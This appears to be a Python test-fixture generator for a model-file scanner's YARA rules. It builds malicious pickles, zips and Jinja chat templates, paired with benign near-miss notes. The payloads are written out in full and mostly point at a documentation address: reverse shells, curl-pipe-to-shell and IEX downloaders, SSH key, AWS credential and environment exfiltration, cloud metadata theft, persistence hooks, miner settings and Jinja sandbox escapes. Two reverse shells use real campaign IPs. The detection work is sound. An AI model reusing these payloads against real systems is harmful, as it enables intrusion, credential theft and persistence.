"""Samples for the signature rules (signatures/*.yar): for every shipped rule, an artifact whose
extracted content carries the rule's pattern (malicious/sig_*) and near-miss content that must stay
clean (benign/sig_*).

Payload strings have the structure of real attacks but are never run: addresses are from the
documentation range 192.0.2.0/24 (RFC 5737), commands end in `echo quarantine-sample`, and the
campaign indicators are the published addresses as plain strings. Standard library only.
"""

from __future__ import annotations

import io
import pickletools
import struct
import zipfile

CLEAN, SUSPICIOUS, MALICIOUS = "clean", "suspicious", "malicious"
HOST = "192.0.2.10"

# Signature rule ids -> (name, verdict the rule's meta implies), merged into generate.RULES.
RULES = {
    f"YAR:{ns}.{name}": (name, verdict)
    for ns, name, verdict in [
        ("reverse_shells", "bash_dev_tcp", MALICIOUS),
        ("reverse_shells", "netcat_exec", MALICIOUS),
        ("reverse_shells", "python_socket_shell", MALICIOUS),
        ("reverse_shells", "powershell_tcp_client", MALICIOUS),
        ("download_exec", "curl_pipe_shell", MALICIOUS),
        ("download_exec", "powershell_download_iex", MALICIOUS),
        ("download_exec", "python_download_exec", MALICIOUS),
        ("encoded_python", "exec_base64", MALICIOUS),
        ("encoded_python", "exec_compressed_or_marshalled", MALICIOUS),
        ("credentials", "ssh_private_keys", MALICIOUS),
        ("credentials", "cloud_and_tool_credentials", MALICIOUS),
        ("credentials", "cloud_metadata_credentials", MALICIOUS),
        ("credentials", "cloud_metadata_endpoint", SUSPICIOUS),
        ("credentials", "environment_dump", MALICIOUS),
        ("persistence", "crontab_install", MALICIOUS),
        ("persistence", "shell_rc_append", MALICIOUS),
        ("persistence", "systemd_unit_install", MALICIOUS),
        ("persistence", "authorized_keys_append", MALICIOUS),
        ("miners", "stratum_url", MALICIOUS),
        ("miners", "xmrig_options", MALICIOUS),
        ("miners", "mining_pool_host", MALICIOUS),
        ("exfiltration", "chat_webhook", SUSPICIOUS),
        ("exfiltration", "paste_or_drop_site", SUSPICIOUS),
        ("exfiltration", "tunnel_or_callback_service", SUSPICIOUS),
        ("template_injection", "jinja_class_traversal", MALICIOUS),
        ("template_injection", "jinja_globals_gadget", MALICIOUS),
        ("template_injection", "jinja_attr_filter_bypass", MALICIOUS),
        ("campaigns", "jfrog_2024_huggingface_backdoors", MALICIOUS),
        ("campaigns", "reversinglabs_2025_nullifai", MALICIOUS),
    ]
}


def _str(s: str) -> bytes:
    """SHORT_BINUNICODE or BINUNICODE."""
    b = s.encode()
    return (b"\x8c" + bytes([len(b)]) if len(b) < 256 else b"X" + struct.pack("<I", len(b))) + b


def call_pickle(module: str, name: str, *args: str) -> bytes:
    """Protocol 4: module.name(*args), written opcode by opcode (STACK_GLOBAL, MARK, TUPLE, REDUCE)."""
    body = _str(module) + _str(name) + b"\x93" + b"(" + b"".join(_str(a) for a in args) + b"tR."
    return _disassembles(b"\x80\x04" + body)


def config_pickle(pairs: dict[str, str]) -> bytes:
    """Protocol 4: collections.OrderedDict([(key, value), ...]), a plain config object."""
    items = b"".join(_str(k) + _str(v) + b"\x86" for k, v in pairs.items())
    return _disassembles(b"\x80\x04" + _str("collections") + _str("OrderedDict") + b"\x93" + b"](" + items + b"e\x85R.")


def _disassembles(p: bytes) -> bytes:
    """pickletools.dis reads without executing; it raises on a stream the unpickler would refuse."""
    pickletools.dis(p, out=io.StringIO())
    return p


def zip_text(*members: tuple[str, str]) -> bytes:
    """A deflated zip of text members with a fixed timestamp (deterministic)."""
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as zf:
        for name, text in members:
            info = zipfile.ZipInfo(name, date_time=(2024, 1, 1, 0, 0, 0))
            info.compress_type = zipfile.ZIP_DEFLATED
            zf.writestr(info, text.encode())
    return out.getvalue()


def text(s: str) -> bytes:
    return s.encode()


SOCKET_SHELL = (
    "import socket,os,pty;s=socket.socket(socket.AF_INET,socket.SOCK_STREAM);"
    "s.connect(('{host}',{port}));[os.dup2(s.fileno(),f) for f in (0,1,2)];pty.spawn('/bin/sh')"
)


def samples(register) -> None:
    def sig(path, expected, *findings, desc, build):
        register(path, expected, *findings, desc=desc, build=build)

    def pkl1(rule):
        return ("PKL001", rule)

    # --- reverse shells -------------------------------------------------------------------
    sig("malicious/sig_bash_dev_tcp.pkl", MALICIOUS, ("PKL001", "posix.system"),
        ("YAR:reverse_shells.bash_dev_tcp", f"/dev/tcp/{HOST}/4444"),
        desc="posix.system('bash -i >& /dev/tcp/192.0.2.10/4444 0>&1'): the call is malicious by itself, the "
             "signature says what it runs (a bash reverse shell)",
        build=lambda: call_pickle("posix", "system", f"bash -i >& /dev/tcp/{HOST}/4444 0>&1"))
    sig("malicious/sig_netcat_exec.zip", MALICIOUS, ("YAR:reverse_shells.netcat_exec", f"nc {HOST} 4444 -e /bin/sh"),
        desc="model zip whose scripts/serve.sh runs `nc 192.0.2.10 4444 -e /bin/sh` (text member)",
        build=lambda: zip_text(("model/config.json", '{"hidden": 16}\n'),
                               ("model/scripts/serve.sh", f"#!/bin/sh\nnc {HOST} 4444 -e /bin/sh\n")))
    sig("malicious/sig_python_socket_shell.pkl", MALICIOUS, ("PKL001", "builtins.exec"),
        ("YAR:reverse_shells.python_socket_shell", "pty.spawn('/bin/sh"),
        desc="builtins.exec of a Python socket + dup2 + pty.spawn reverse shell to 192.0.2.10:4444",
        build=lambda: call_pickle("builtins", "exec", SOCKET_SHELL.format(host=HOST, port=4444)))
    sig("malicious/sig_powershell_tcp_client.zip", MALICIOUS, ("YAR:reverse_shells.powershell_tcp_client", "TCPClient("),
        desc="model zip with install.ps1: a Net.Sockets.TCPClient stream whose input goes to iex",
        build=lambda: zip_text(("install.ps1",
            f"$c = New-Object System.Net.Sockets.TCPClient('{HOST}',4444);$s = $c.GetStream();"
            "[byte[]]$b = 0..65535|%{0};while(($i = $s.Read($b, 0, $b.Length)) -ne 0){"
            "$d = (New-Object Text.ASCIIEncoding).GetString($b,0,$i);$o = (iex $d 2>&1 | Out-String);}\n")))
    sig("benign/sig_networking_notes.md", CLEAN,
        desc="model card about distributed training: /dev/tcp mentioned without host and port, `nc -l` and "
             "`nc -z` health checks, socket.socket in a snippet without dup2 or pty, TCPClient without iex",
        build=lambda: text(
            "# Serving notes\n\nBash can open sockets through /dev/tcp redirections; we do not use them.\n"
            "Health check: `nc -z localhost 8080` or `nc -l 9000` for a quick listener.\n\n"
            "```python\nimport socket\ns = socket.socket()\ns.connect(('localhost', 29500))\ns.sendall(b'ping')\n```\n"
            "The C# client uses `new TcpClient(host, port).GetStream()` to stream tokens.\n"))

    # --- download and run -----------------------------------------------------------------
    sig("malicious/sig_curl_pipe_shell.pkl", MALICIOUS, ("PKL001", "posix.system"),
        ("YAR:download_exec.curl_pipe_shell", f"curl -fsSL http://{HOST}/x.sh | sh"),
        desc="posix.system('curl -fsSL http://192.0.2.10/x.sh | sh')",
        build=lambda: call_pickle("posix", "system", f"curl -fsSL http://{HOST}/x.sh | sh"))
    sig("malicious/sig_powershell_download_iex.zip", MALICIOUS,
        ("YAR:download_exec.powershell_download_iex", "DownloadString("),
        desc="model zip with setup.ps1: IEX (New-Object Net.WebClient).DownloadString(...)",
        build=lambda: zip_text(("setup.ps1",
            f"IEX (New-Object Net.WebClient).DownloadString('http://{HOST}/a.ps1')\n")))
    sig("malicious/sig_python_download_exec.pkl", MALICIOUS, ("PKL001", "builtins.exec"),
        ("YAR:download_exec.python_download_exec", "exec(urllib.request.urlopen("),
        desc="builtins.exec of code that execs what urllib fetches from 192.0.2.10",
        build=lambda: call_pickle("builtins", "exec",
                                  f"import urllib.request;exec(urllib.request.urlopen('http://{HOST}/p').read())"))
    sig("benign/sig_download_notes.md", CLEAN,
        desc="README with curl downloading weights to a file, a pipe into tar and sha256sum, "
             "Invoke-WebRequest -OutFile without iex, urlopen without exec",
        build=lambda: text(
            "## Download\n\n    curl -L -o model.safetensors https://huggingface.co/org/m/resolve/main/model.safetensors\n"
            "    curl -sL https://example.org/m.tar.gz | tar xz\n    wget -qO- https://example.org/SHA256SUMS | sha256sum -c\n\n"
            "On Windows: `Invoke-WebRequest -Uri https://example.org/m.zip -OutFile m.zip`\n\n"
            "```python\nwith urllib.request.urlopen(url) as r:\n    data = r.read()\n```\n"))

    # --- encoded python -------------------------------------------------------------------
    sig("malicious/sig_exec_base64.pkl", MALICIOUS, ("PKL001", "builtins.exec"),
        ("YAR:encoded_python.exec_base64", "exec(base64.b64decode("),
        desc="builtins.exec('import base64;exec(base64.b64decode(...))'), the payload base64 of print('quarantine-sample')",
        build=lambda: call_pickle("builtins", "exec",
                                  "import base64;exec(base64.b64decode('cHJpbnQoJ3F1YXJhbnRpbmUtc2FtcGxlJyk='))"))
    sig("malicious/sig_exec_marshal.zip", MALICIOUS,
        ("YAR:encoded_python.exec_compressed_or_marshalled", "exec(zlib.decompress("),
        desc="model zip with a loader.py that execs zlib-decompressed and marshal-loaded code",
        build=lambda: zip_text(("loader.py", "import zlib, marshal\nexec(zlib.decompress(BLOB))\n"
                                             "exec(marshal.loads(CODE))\n")))
    sig("benign/sig_codec_usage.py", CLEAN,
        desc="preprocessing script that base64-decodes images, zlib-decompresses shards and evals nothing",
        build=lambda: text(
            "import base64, zlib\n\ndef load(record):\n    image = base64.b64decode(record['image'])\n"
            "    shard = zlib.decompress(record['shard'])\n    return image, shard\n\n"
            "model.eval()  # inference mode\nresult = evaluate(model, data)\n"))

    # --- credentials ----------------------------------------------------------------------
    sig("malicious/sig_ssh_private_keys.pkl", MALICIOUS, ("PKL001", "posix.system"),
        ("YAR:credentials.ssh_private_keys", "~/.ssh/id_rsa"),
        desc="posix.system('cat ~/.ssh/id_rsa | curl -d @- http://192.0.2.10/k')",
        build=lambda: call_pickle("posix", "system", f"cat ~/.ssh/id_rsa | curl -d @- http://{HOST}/k"))
    sig("malicious/sig_cloud_credentials.zip", MALICIOUS,
        ("YAR:credentials.cloud_and_tool_credentials", "~/.aws/credentials"),
        desc="model zip with sync.py reading ~/.aws/credentials and ~/.netrc",
        build=lambda: zip_text(("sync.py", "import os\nfor p in ['~/.aws/credentials', '~/.netrc']:\n"
                                           "    send(open(os.path.expanduser(p)).read())\n")))
    sig("malicious/sig_cloud_metadata.pkl", MALICIOUS, ("PKL001", "posix.system"),
        ("YAR:credentials.cloud_metadata_credentials", "security-credentials"),
        ("YAR:credentials.cloud_metadata_endpoint", "169.254.169.254"),
        desc="posix.system('curl http://169.254.169.254/latest/meta-data/iam/security-credentials/')",
        build=lambda: call_pickle("posix", "system",
                                  "curl http://169.254.169.254/latest/meta-data/iam/security-credentials/"))
    sig("malicious/sig_metadata_endpoint.pkl", SUSPICIOUS, ("YAR:credentials.cloud_metadata_endpoint", "169.254.169.254"),
        desc="a config pickle (collections.OrderedDict, allowed) whose 'endpoint' names the metadata service; "
             "only the signature speaks",
        build=lambda: config_pickle({"model": "linear", "endpoint": "http://169.254.169.254/"}))
    sig("malicious/sig_environment_dump.pkl", MALICIOUS, ("PKL001", "builtins.exec"),
        ("YAR:credentials.environment_dump", "json.dumps(dict(os.environ)"),
        desc="builtins.exec posting json.dumps(dict(os.environ)) with urllib to 192.0.2.10",
        build=lambda: call_pickle("builtins", "exec",
                                  "import os,json,urllib.request;urllib.request.urlopen("
                                  f"'http://{HOST}/e', json.dumps(dict(os.environ)).encode())"))
    sig("benign/sig_credentials_notes.md", CLEAN,
        desc="README that mentions ~/.ssh/config, ~/.cache/huggingface/hub, os.environ.get('HF_TOKEN') and "
             "AWS_PROFILE without reading key files, metadata endpoints or dumping the environment",
        build=lambda: text(
            "## Setup\n\nAdd the host to `~/.ssh/config`. Models are cached in `~/.cache/huggingface/hub`.\n"
            "Set `HF_TOKEN`; the script reads `os.environ.get('HF_TOKEN')` and `os.environ['AWS_PROFILE']`.\n"
            "Run `aws configure` to set up credentials.\n"))

    # --- persistence ----------------------------------------------------------------------
    sig("malicious/sig_crontab.pkl", MALICIOUS, ("PKL001", "posix.system"),
        ("YAR:persistence.crontab_install", "| crontab -"),
        desc="posix.system('(crontab -l; echo \"@reboot echo quarantine-sample\") | crontab -')",
        build=lambda: call_pickle("posix", "system", '(crontab -l; echo "@reboot echo quarantine-sample") | crontab -'))
    sig("malicious/sig_shell_rc.pkl", MALICIOUS, ("PKL001", "posix.system"),
        ("YAR:persistence.shell_rc_append", ">> ~/.bashrc"),
        desc="posix.system(\"echo 'echo quarantine-sample' >> ~/.bashrc\")",
        build=lambda: call_pickle("posix", "system", "echo 'echo quarantine-sample' >> ~/.bashrc"))
    sig("malicious/sig_systemd_unit.zip", MALICIOUS, ("YAR:persistence.systemd_unit_install", "/etc/systemd/system/"),
        desc="model zip whose install.sh copies a unit to /etc/systemd/system/ and enables it",
        build=lambda: zip_text(("install.sh", "cp m.service /etc/systemd/system/\nsystemctl enable m.service\n")))
    sig("malicious/sig_authorized_keys.pkl", MALICIOUS, ("PKL001", "posix.system"),
        ("YAR:persistence.authorized_keys_append", ">> ~/.ssh/authorized_keys"),
        desc="posix.system('echo ssh-ed25519 AAAA... >> ~/.ssh/authorized_keys')",
        build=lambda: call_pickle("posix", "system",
                                  "echo ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIquarantineSample >> ~/.ssh/authorized_keys"))
    sig("benign/sig_service_notes.md", CLEAN,
        desc="deployment notes: `crontab -e`, a sample unit with ExecStart= but no install path, "
             "`source ~/.bashrc`, authorized_keys mentioned without a key",
        build=lambda: text(
            "## Deploy\n\nEdit the schedule with `crontab -e`. A unit file looks like:\n\n"
            "    [Service]\n    ExecStart=/usr/bin/python serve.py\n\n"
            "Reload your shell with `source ~/.bashrc`. Ask ops to add your key to authorized_keys.\n"))

    # --- miners ---------------------------------------------------------------------------
    sig("malicious/sig_stratum.zip", MALICIOUS, ("YAR:miners.stratum_url", "stratum+tcp://"),
        desc="model zip with a miner.json whose pool is stratum+tcp://192.0.2.10:3333",
        build=lambda: zip_text(("miner.json", f'{{"pools": [{{"url": "stratum+tcp://{HOST}:3333"}}]}}\n')))
    sig("malicious/sig_xmrig.pkl", MALICIOUS, ("PKL001", "posix.system"),
        ("YAR:miners.xmrig_options", "--donate-level=1"),
        desc="posix.system('./xmrig -o 192.0.2.10:3333 --donate-level=1 -a rx/0')",
        build=lambda: call_pickle("posix", "system", f"./xmrig -o {HOST}:3333 --donate-level=1 -a rx/0"))
    sig("malicious/sig_mining_pool.pkl", MALICIOUS, ("YAR:miners.mining_pool_host", "supportxmr.com"),
        desc="a config pickle (collections.OrderedDict) naming pool.supportxmr.com; only the signature speaks",
        build=lambda: config_pickle({"pool": "pool.supportxmr.com:443", "threads": "4"}))
    sig("benign/sig_mining_notes.md", CLEAN,
        desc="text about data mining, the stratum layer of a dataset and a mention of XMRig without options",
        build=lambda: text(
            "Trained on a text-mining corpus; the `stratum` column splits the dataset by source.\n"
            "Unrelated projects such as XMRig are excluded from the crawl.\n"))

    # --- exfiltration ---------------------------------------------------------------------
    sig("malicious/sig_chat_webhook.zip", SUSPICIOUS,
        ("YAR:exfiltration.chat_webhook", "discord.com/api/webhooks/"),
        desc="model zip with notify.py posting to a Discord webhook",
        build=lambda: zip_text(("notify.py",
            "requests.post('https://discord.com/api/webhooks/123456789012345678/quarantine-sample', json=data)\n")))
    sig("malicious/sig_paste_site.pkl", SUSPICIOUS, ("YAR:exfiltration.paste_or_drop_site", "pastebin.com/raw"),
        desc="a config pickle (collections.OrderedDict) whose 'update' URL is a raw pastebin",
        build=lambda: config_pickle({"update": "https://pastebin.com/raw/quarantine"}))
    sig("malicious/sig_tunnel.pkl", MALICIOUS, ("PKL001", "posix.system"),
        ("YAR:exfiltration.tunnel_or_callback_service", "ngrok-free.app"),
        desc="posix.system('curl -d @/etc/hostname https://quarantine-sample.ngrok-free.app')",
        build=lambda: call_pickle("posix", "system", "curl -d @/etc/hostname https://quarantine-sample.ngrok-free.app"))
    sig("benign/sig_links.md", CLEAN,
        desc="model card linking a Discord invite, the pastebin home page and ngrok's documentation",
        build=lambda: text(
            "Join us on https://discord.com/invite/quarantine. Logs go to pastebin.com when you share them.\n"
            "For demos we use ngrok (see https://ngrok.com/docs).\n"))

    # --- template injection ---------------------------------------------------------------
    sig("malicious/sig_jinja_class_traversal.jinja", MALICIOUS,
        ("YAR:template_injection.jinja_class_traversal", "__subclasses__()"),
        desc="chat_template.jinja that walks ''.__class__.__mro__[1].__subclasses__()",
        build=lambda: text("{% for m in messages %}{{ m['content'] }}{% endfor %}"
                           "{{ ''.__class__.__mro__[1].__subclasses__() }}\n"))
    sig("malicious/sig_jinja_globals_gadget.jinja", MALICIOUS,
        ("YAR:template_injection.jinja_globals_gadget", "cycler.__init__.__globals__"),
        desc="chat_template.jinja reaching os through cycler.__init__.__globals__",
        build=lambda: text("{{ cycler.__init__.__globals__.os.popen('echo quarantine-sample').read() }}"
                           "{% for m in messages %}{{ m['content'] }}{% endfor %}\n"))
    sig("malicious/sig_jinja_attr_bypass.jinja", MALICIOUS,
        ("YAR:template_injection.jinja_attr_filter_bypass", "|attr("),
        desc="chat_template.jinja using request|attr('\\x5f\\x5fclass\\x5f\\x5f') to dodge a dunder filter",
        build=lambda: text("{{ request|attr('\\x5f\\x5fclass\\x5f\\x5f') }}\n"))
    sig("benign/sig_chat_template.json", CLEAN,
        desc="tokenizer_config.json with a ChatML-style chat template (namespace(), loop, raise_exception)",
        build=lambda: text(
            '{"bos_token": "<s>", "chat_template": "{% set ns = namespace(system=false) %}'
            "{% for message in messages %}{% if message['role'] == 'system' %}{% set ns.system = true %}{% endif %}"
            "{{ '<|im_start|>' + message['role'] + '\\\\n' + message['content'] + '<|im_end|>' }}"
            "{% if loop.last and add_generation_prompt %}{{ '<|im_start|>assistant' }}{% endif %}{% endfor %}"
            "{% if not messages %}{{ raise_exception('no messages') }}{% endif %}\"}\n"))

    # --- campaigns ------------------------------------------------------------------------
    sig("malicious/sig_campaign_jfrog.pkl", MALICIOUS, ("PKL001", "builtins.exec"),
        ("YAR:campaigns.jfrog_2024_huggingface_backdoors", "210.117.212.93"),
        desc="builtins.exec of a socket reverse shell to 210.117.212.93:4242, the address of baller423/goober2 "
             "(JFrog, 2024); never run",
        build=lambda: call_pickle("builtins", "exec", SOCKET_SHELL.format(host="210.117.212.93", port=4242)))
    sig("malicious/sig_campaign_nullifai.pkl", MALICIOUS, ("PKL001", "builtins.exec"),
        ("YAR:campaigns.reversinglabs_2025_nullifai", "107.173.7.141"),
        desc="builtins.exec of a socket reverse shell to 107.173.7.141, the nullifAI address (ReversingLabs, "
             "2025); never run",
        build=lambda: call_pickle("builtins", "exec", SOCKET_SHELL.format(host="107.173.7.141", port=4242)))
    sig("benign/sig_addresses.md", CLEAN,
        desc="README with documentation addresses and ports (192.0.2.10:4242, 10.0.0.1:29500)",
        build=lambda: text("Connect the workers to 192.0.2.10:4242 or 10.0.0.1:29500 (MASTER_ADDR, MASTER_PORT).\n"))
